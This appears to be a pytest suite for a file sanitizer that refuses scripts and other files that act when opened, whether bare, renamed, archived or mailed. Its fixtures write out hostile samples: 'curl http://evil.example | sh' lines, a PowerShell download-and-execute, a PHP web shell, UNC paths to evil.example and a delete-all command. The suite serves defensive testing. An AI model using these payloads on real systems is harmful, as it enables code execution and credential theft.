"""Texts that act when they are opened: none is released as sanitized as it was, bare, in archives, in mail, or under
another name; and what only looks like one stays."""

import gzip
import io
import json
import tarfile
import zipfile
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default

import pytest
from gateway import run

JS = 'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc.exe");\n'
VBS = 'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe"\n'
PS1 = "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://a.example/x')\n"
SCRIPTS = {
    "a.js": JS,
    "a.jse": "#@~^XgAAAA==" + JS,
    "a.vbs": VBS,
    "a.ps1": PS1,
    "a.bat": "@echo off\r\nstart calc.exe\r\n",
    "a.cmd": "cd %TEMP%\r\npowershell -c calc\r\ndel /q *.*\r\n",
    "a.wsf": '<job id="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></job>',
    "a.sct": '<?xml version="1.0"?><scriptlet><registration progid="x"><script language="JScript">x</script></registration></scriptlet>',
    "a.reg": "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n\"a\"=\"b\"\r\n",
    "a.url": "[InternetShortcut]\r\nURL=file://evil.example/share/x.exe\r\n",
    "a.scf": "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\x\\a.ico\r\n",
    "a.iqy": "WEB\r\n1\r\nhttp://evil.example/x\r\n",
    "a.slk": 'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("calc.exe")\r\nE\r\n',
    "a.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://evil.example | sh'\n",
    "a.py": "import os\nos.system('id')\n",
    "a.sh": "#!/bin/sh\ncurl http://evil.example | sh\n",
    "a.php": "<?php system($_GET['c']); ?>",
    "a.ps": "%!PS-Adobe-3.0\n(%pipe%id) (w) file pop\n",
    "a.inf": "[version]\nsignature=$chicago$\n[DefaultInstall]\nUnRegisterOCXs=x\n[x]\n%11%\\scrobj.dll,NI,http://evil.example/x\n",
    "a.theme": "[Theme]\nDisplayName=x\n[boot]\nSCRNSAVE.EXE=\\\\evil.example\\x.scr\n",
    "a.ica": "[ApplicationServers]\nx=\n[x]\nAddress=evil.example\nInitialProgram=#calc\n",
    "a.wsh": "[ScriptFile]\nPath=\\\\evil.example\\x.vbs\n",
    "a.jnlp": '<?xml version="1.0"?><jnlp codebase="http://evil.example/"><resources><jar href="x.jar"/></resources></jnlp>',
    "a.asx": '<asx version="3.0"><entry><ref href="\\\\evil.example\\x"/></entry></asx>',
    "a.m3u8": "#EXTM3U\n\\\\evil.example\\x\n",
    "a.terminal": '<?xml version="1.0"?><plist version="1.0"><dict><key>CommandString</key><string>id</string></dict></plist>',
    "a.csproj": '<Project Sdk="Microsoft.NET.Sdk"><Target Name="x"><Exec Command="calc"/></Target></Project>',
    "a.settingcontent-ms": '<?xml version="1.0"?><PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/'
    'SettingContent"><ApplicationInformation><DeepLink>cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
}
# Documents that act by their namespace: refused, whatever they are called.
PROGRAMS = {
    "a.library-ms": '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\evil.example\\x</url></libraryDescription>',
    "a.searchConnector-ms": '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"/>',
    "a.contact": '<c:contact xmlns:c="http://schemas.microsoft.com/Contact"><c:Value>file:///c:/calc.exe</c:Value></c:contact>',
    "a.application": '<a:assembly xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:a="urn:schemas-microsoft-com:asm.v1"><deployment/></a:assembly>',
    "a.task": '<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Exec><Command>calc</Command></Exec></Task>',
    "a.vcxproj": '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target><Exec Command="calc"/></Target></Project>',
}
# The same, as others spell it: refused, whatever it is called.
SPELLED = {
    "slashes.m3u": "#EXTM3U\n//evil.example/x\n",
    "both.m3u": "#EXTM3U\n\\/evil.example/x\n",
    "logo.m3u": '#EXTM3U\n#EXTINF:-1 tvg-id="a" tvg-logo="\\\\evil.example\\x",a\nhttps://a.example/1.ts\n',
    "slashes.pls": "[playlist]\nFile1=//evil.example/x\n",
    "remarked.theme": "; Themes\r\n\r\n[Theme]\r\nWallpaper=//evil.example/x.jpg\r\n",
    "second.desktop": "# a\n[Other]\na=b\n[Desktop Entry]\nExec=sh -c x\n",
    "referred.xspf": '<playlist xmlns="http://xspf.org/ns/0/"><location>&#92;&#92;evil.example\\x</location></playlist>',
    "parted.xspf": '<playlist xmlns="http://xspf.org/ns/0/"><location>\n \\\\evil.example\\x</location></playlist>',
    "section.xspf": '<playlist xmlns="http://xspf.org/ns/0/"><location><![CDATA[\\\\evil.example\\x]]></location></playlist>',
    "prefixed.xspf": '<p:playlist xmlns:p="http://xspf.org/ns/0/"><p:location>\\\\evil.example\\x</p:location></p:playlist>',
    "parted.smil": '<smil><media src = "\\\\evil.example\\x"/></smil>',
    "slashes.smil": "<smil><media src='//evil.example/x'/></smil>",
    "parted.kml": '<kml xmlns="http://www.opengis.net/kml/2.2"><href> file:///x</href></kml>',
    "far.plist": f'<plist><dict><!--{"x" * 70000}--><key>CommandString</key><string>id</string></dict></plist>',
    "parted.plist": "<plist><dict><key> Command<!-- x -->String </key><string>id</string></dict></plist>",
    "broken.wsf": "<job><title><script>x</script>",
}
INNOCENT = {
    "list.txt": "#EXTM3U\n#EXTINF:9,One\nhttps://a.example/1.ts\n",
    "places.xml": '<kml xmlns="http://www.opengis.net/kml/2.2"><href>https://a.example/x</href></kml>',
    "pom.xml": "<project><name>a</name><executions><execution/></executions></project>",
    "notes.txt": "Dear Jane,\n\nthe macro calls CreateObject(\"Word\").\nPlease remove it.\n\nYours\nJohn\n",
    "manual.md": "# Setup\n\nTo begin, open a terminal.\n\n```\ncurl https://a.example\n```\n\nThen restart the machine.\n",
    "app.log": "2026-01-01 12:00:00 INFO powershell started by Jane\n2026-01-01 12:00:01 WARN cmd.exe ended\n",
    "main.rs": "use std::process::Command;\nfn main() {\n    Command::new(\"ls\").status().unwrap();\n}\n",
    "a.ts": "import { x } from 'y';\nconst a = eval('1');\n",
    "Dockerfile": "FROM debian\nRUN apt-get update && curl x\n",
    "settings.ini": "[server]\nname = a\nport = 80\n",
    "data.csv": "id,name\n1,powershell\n",
    "README": "Read me.\n",
}


def sanitized(tmp_path, name, data, *more):
    source, target = tmp_path / name, tmp_path / "out"
    source.write_bytes(data if isinstance(data, bytes) else data.encode())
    target.unlink(missing_ok=True)
    done = run("sanitize", source, target, *more)
    return done, target.read_bytes() if done.returncode == 0 else None


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def packed_twice():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")
        archive.writestr("A.TXT", "y")
    return out.getvalue()


def unzipped(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_a_script_is_refused(tmp_path):
    for name, text in SCRIPTS.items():
        done, clean = sanitized(tmp_path, name, text)
        assert clean is None and done.returncode == 1 and "it is a script" in done.err, name


def test_a_document_that_acts_by_its_namespace_is_refused(tmp_path):
    for name, text in PROGRAMS.items():
        for called in [name, "photo.jpg", "letter.txt", "data.xml"]:
            assert sanitized(tmp_path, called, text)[1] is None, (name, called)
    innocent = ["<project><name>a</name></project>", '<assembly xmlns="urn:schemas-microsoft-com:asm.v1"><description/></assembly>']
    assert all(sanitized(tmp_path, "data.xml", text)[1] is not None for text in innocent)


def test_a_script_is_known_however_it_is_spelled(tmp_path):
    for name, text in SPELLED.items():
        for called in [name, "photo.jpg", "letter.txt", "data.xml"]:
            assert sanitized(tmp_path, called, text)[1] is None, (name, called)


@pytest.mark.parametrize("other", ["photo.jpg", "letter.txt", "table.csv", "page.md", "noending", "x.docx", "a.unheard"])
def test_a_script_is_known_whatever_it_is_called(tmp_path, other):
    members = {f"{name}/{other}": text for name, text in SCRIPTS.items()}
    members |= {f"{name}/16/{other}": text.encode("utf-16") for name, text in SCRIPTS.items()}
    _, clean = sanitized(tmp_path, "a.zip", zipped({**members, **{name.upper(): text for name, text in SCRIPTS.items()}}))
    assert unzipped(clean) == {}
    assert sanitized(tmp_path, other, VBS)[1] is None


def test_scripts_in_archives_are_left_out(tmp_path):
    members = {**SCRIPTS, "photo.jpg": VBS, "deep/inner.zip": zipped({"x/a.js": JS, "b.txt": "hello"}), "ok.txt": "hello"}
    done, clean = sanitized(tmp_path, "a.zip", zipped(members))
    left = unzipped(clean)
    assert list(left) == ["deep/inner.zip", "ok.txt"], left
    with zipfile.ZipFile(io.BytesIO(clean)) as archive:
        assert unzipped(archive.read("deep/inner.zip")) == {"b.txt": b"hello"}
    assert f"{len(SCRIPTS) + 2} parts were left out" in done.err


def test_scripts_in_tar_and_gzip_are_left_out_and_nothing_may_be_run(tmp_path):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in {**SCRIPTS, "ok": "hello"}.items():
            member = tarfile.TarInfo(name)
            member.size, member.mode = len(data.encode()), 0o755
            archive.addfile(member, io.BytesIO(data.encode()))
    _, clean = sanitized(tmp_path, "a.tar", out.getvalue())
    with tarfile.open(fileobj=io.BytesIO(clean)) as archive:
        assert [(member.name, member.mode) for member in archive] == [("ok", 0o644)]
    for name, text in {**SCRIPTS, "b.js": "alert(1)"}.items():
        assert sanitized(tmp_path, name + ".gz", gzip.compress(text.encode()))[1] is None, name


def test_scripts_in_mail_are_left_out_where_attachments_stay(tmp_path):
    message = EmailMessage()
    message["Subject"] = "files"
    message.set_content("see the files")
    for name, text in {**SCRIPTS, "photo.jpg": VBS, "picture.png": "no picture"}.items():
        message.add_attachment(text.encode(), maintype="application", subtype="octet-stream", filename=name)
    message.add_attachment("hello", filename="ok.txt")
    message.add_attachment("alert(2)", filename="two.txt", params={"name": "two.js"})
    _, clean = sanitized(tmp_path, "a.eml", message.as_bytes(), "--keep-attachments")
    assert b"ok.txt" in clean
    assert b"alert" not in clean
    for name in [*SCRIPTS, "photo.jpg", "picture.png"]:
        assert f'"{name}"'.encode() not in clean, name


def word(macros):
    """A Word document, of the kind that holds macros or of the one that cannot."""
    kinds = {
        False: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        True: "application/vnd.ms-word.document.macroEnabled.main+xml",
    }
    schemas = "http://schemas.openxmlformats.org"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{schemas}/package/2006/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{kinds[macros]}"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{schemas}/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{schemas}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'<w:document xmlns:w="{schemas}/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            "<w:t>hello</w:t></w:r></w:p></w:body></w:document>",
        }
    )


@pytest.mark.parametrize("macros", [True, False])
def test_a_document_in_mail_is_called_what_it_became(tmp_path, macros):
    def mail(*names):
        message = EmailMessage()
        message.set_content("see the file")
        for name in names:
            message.add_attachment(word(macros), maintype="application", subtype="octet-stream", filename=name, params={"name": name})
        return message.as_bytes()

    done, clean = sanitized(tmp_path, "a.eml", mail("Report Ü.docm", "other.DOTM"), "--keep-attachments")
    files = list(message_from_bytes(clean, policy=default).iter_attachments())
    assert [file.get_filename() for file in files] == ["Report Ü.docx", "other.dotx"]
    assert [file["Content-Type"].params["name"] for file in files] == ["Report Ü.docx", "other.dotx"]
    assert b"docm" not in clean.lower() and "2 names did not fit" in done.err
    assert all(b"macroEnabled" not in unzipped(file.get_content())["[Content_Types].xml"] for file in files)
    _, again = sanitized(tmp_path, "b.eml", clean, "--keep-attachments")
    assert again == clean
    _, kept = sanitized(tmp_path, "c.eml", mail("a.docm"), "--keep-attachments", "--keep-interactive")
    assert b'"a.docm"' in kept


def test_scripts_are_released_as_text_where_that_is_wanted(tmp_path):
    _, clean = sanitized(tmp_path, "a.zip", zipped({"d/a.vbs": VBS, "d/a.vbs.txt": "hello"}), "--scripts", "text")
    assert unzipped(clean) == {"d/a.vbs-2.txt": VBS.encode(), "d/a.vbs.txt": b"hello"}
    done, clean = sanitized(tmp_path, "a.ps1", PS1, "--scripts", "text", "--keep-links")
    assert clean.decode() == PS1 and "should be called a.ps1.txt" in done.err
    done, clean = sanitized(tmp_path, "a.ps1", PS1, "--scripts", "pass", "--keep-links")
    assert clean.decode() == PS1 and "should be called" not in done.err
    config = tmp_path / "c.toml"
    config.write_text('[sanitize]\nscripts = "text"\n')
    assert sanitized(tmp_path, "a.ps1", PS1, "-c", config)[1] is not None
    config.write_text('[sanitize]\nscripts = "maybe"\n')
    assert "scripts" in sanitized(tmp_path, "a.ps1", PS1, "-c", config)[0].err


def test_a_name_that_does_not_fit_is_put_right(tmp_path):
    members = {"photo.jpg": "no picture", "page.hta": "<html><p>hello</p></html>", "notes.txt": "hello", "a.pdf": "<html><p>x</p></html>"}
    done, clean = sanitized(tmp_path, "a.zip", zipped(members))
    assert sorted(unzipped(clean)) == ["a.pdf.html", "notes.txt", "page.hta.html", "photo.jpg.txt"]
    assert "3 names did not fit" in done.err


def test_why_a_file_is_refused_is_told(tmp_path):
    entity = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    for name, data, why in [
        ("a.zip", zipped({"../a.txt": "x"}), "leads out of the folder"),
        ("a.zip", packed_twice(), "two of its members have one name"),
        ("a.xml", entity, "entities of its own"),
        ("a.xml", "<a><b></a>", "it is broken"),
        ("a.exe", b"MZ" + bytes(80), "files of its kind"),
    ]:
        done, clean = sanitized(tmp_path, name, data)
        assert clean is None and why in done.err, (name, done.err)


def test_the_report_tells_what_a_file_is_and_why_it_is_refused(tmp_path):
    done, clean = sanitized(tmp_path, "a.ps1", PS1, "--report")
    assert clean is None and done.returncode == 1
    report = json.loads(done.out)
    assert (report["released"], report["kind"]) == (False, "script") and "it is a script" in report["why"]
    done, _ = sanitized(tmp_path, "photo.jpg", "hello", "--report")
    report = json.loads(done.out)
    assert (report["released"], report["kind"], report["name"]) == (True, "text", "photo.jpg.txt")


def test_style_sheets_lose_their_scripts(tmp_path):
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt">'
        '<m:script language="JScript">function f(){ new ActiveXObject("WScript.Shell").Run("calc"); }</m:script>'
        '<xsl:template match="/"><b/></xsl:template></xsl:stylesheet>'
    )
    _, clean = sanitized(tmp_path, "a.xsl", sheet)
    assert b"ActiveX" not in clean and b"template" in clean


def test_calendars_lose_what_acts(tmp_path):
    entry = (
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:TVqQ\r\n"
        "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/calc.exe\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    _, clean = sanitized(tmp_path, "a.ics", entry)
    assert clean.decode() == "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"


def test_what_only_speaks_of_scripts_stays(tmp_path):
    for name, text in INNOCENT.items():
        done, clean = sanitized(tmp_path, name, text, "--keep-links")
        assert clean == text.encode() and "should be called" not in done.err, (name, done.err)
